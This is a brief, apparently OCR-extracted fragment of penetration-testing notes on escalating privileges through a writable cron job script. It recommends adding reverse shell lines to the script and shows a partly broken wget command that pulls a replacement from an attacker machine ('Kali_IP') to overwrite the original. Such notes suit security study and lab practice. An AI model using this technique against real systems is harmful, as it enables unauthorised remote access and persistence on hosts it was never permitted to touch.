if you're able to modify the cronjob script, don't just replace it. keep a copy of the content and modify or add what you need. i.e) add reverse shell lines. Don't try to edit it with vim if you can just upload a new one replacing it with the exact name.

Transferring a modified cron job script to the target but with the same name:

wgethttp://Kali_IP/ -O

Last updated